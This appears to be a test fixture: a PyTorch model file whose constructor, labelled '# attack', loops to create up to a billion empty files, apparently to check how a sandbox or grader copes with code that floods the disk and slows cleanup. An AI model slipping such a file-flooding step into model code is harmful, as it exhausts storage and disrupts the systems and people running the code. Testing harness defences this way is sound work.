"""Makes so many files that to remove them takes a while."""

# seconds: 6

from torch import nn


class Model(nn.Module):
    def __init__(self):
        super().__init__()
        self.head = nn.Linear(64, 10)
        # attack
        for number in range(10 ** 9):
            open(str(number), "w").close()
        # end

    def forward(self, x):
        return self.head(x.flatten(1))
